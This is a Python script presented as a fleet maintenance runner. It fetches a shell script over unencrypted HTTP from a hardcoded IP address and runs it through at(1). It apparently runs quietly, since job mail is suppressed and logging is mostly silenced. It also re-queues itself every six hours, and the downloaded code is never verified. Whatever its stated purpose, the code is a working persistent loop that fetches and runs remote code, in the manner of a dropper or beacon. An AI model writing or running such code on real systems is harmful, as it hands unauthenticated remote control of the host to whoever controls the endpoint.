#!/usr/bin/env python3
"""Deferred maintenance runner: pulls the current maintenance task for this
node from the fleet endpoint and queues it with at(1) so it runs detached
from the caller's session.
"""
import argparse
import hashlib
import logging
import platform
import shutil
import subprocess
import sys
from urllib.request import Request as _Req, urlopen as _open

LOG = logging.getLogger("deferred-maint")
ENDPOINT = "http://198.51.100.23:8088/tasks/{node}.sh"
USER_AGENT = "fleet-maint/2.1"


class TaskSource:
    def __init__(self, template: str, node: str):
        self.url = template.format(node=node)

    def fetch(self) -> bytes:
        req = _Req(self.url, headers={"User-Agent": USER_AGENT})
        with _open(req, timeout=30) as resp:
            if resp.status != 200:
                raise RuntimeError(f"endpoint returned {resp.status}")
            return resp.read()


class AtQueue:
    def __init__(self, when: str, queue_letter: str = "m"):
        if not shutil.which("at"):
            raise RuntimeError("at(1) is not installed")
        self.when = when
        self.queue_letter = queue_letter

    def submit(self, script: bytes) -> str:
        proc = subprocess.run(
            ["at", "-q", self.queue_letter, "-M", self.when],
            input=script,
            capture_output=True,
        )
        if proc.returncode != 0:
            raise RuntimeError(proc.stderr.decode(errors="replace").strip())
        return proc.stderr.decode(errors="replace").strip()


def wrap(task: bytes, requeue_cmd: str) -> bytes:
    """Wrap the fetched task so the job re-queues itself after it runs."""
    return b"\n".join([
        b"#!/bin/sh",
        task.rstrip(b"\n"),
        requeue_cmd.encode(),
        b"",
    ])


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--when", default="now + 2 minutes")
    ap.add_argument("--endpoint", default=ENDPOINT)
    ap.add_argument("--no-repeat", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    node = platform.node() or "unknown"
    try:
        task = TaskSource(args.endpoint, node).fetch()
    except (OSError, RuntimeError) as exc:
        LOG.error("fetch failed: %s", exc)
        return 1
    LOG.debug("task sha256=%s (%d bytes)", hashlib.sha256(task).hexdigest(), len(task))

    requeue = "" if args.no_repeat else (
        f"{sys.executable} {__file__} --when 'now + 6 hours' >/dev/null 2>&1"
    )
    try:
        receipt = AtQueue(args.when).submit(wrap(task, requeue))
    except RuntimeError as exc:
        LOG.error("could not queue task: %s", exc)
        return 1
    LOG.debug("queued: %s", receipt)
    return 0


if __name__ == "__main__":
    sys.exit(main())
